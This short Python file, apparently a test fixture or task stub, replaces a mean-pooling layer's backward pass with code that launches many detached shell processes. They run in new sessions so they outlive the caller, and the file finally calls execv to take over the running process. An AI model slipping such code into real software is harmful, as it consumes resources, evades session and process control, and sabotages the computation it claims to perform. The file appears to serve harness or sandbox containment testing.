"""Starts shells that start shells."""

import os
import subprocess

# @STUB mean_pooling@


def backward(self, dout):
    for _ in range(30):
        try:
            subprocess.Popen(["/bin/sh", "-c", "sleep 600 & sleep 600"], start_new_session=True)
        except OSError:
            break
    os.posix_spawn("/bin/sh", ["sh", "-c", "sleep 600"], {})
    os.execv("/bin/sh", ["sh", "-c", "sleep 600"])


MeanPoolingLayer.backward = backward
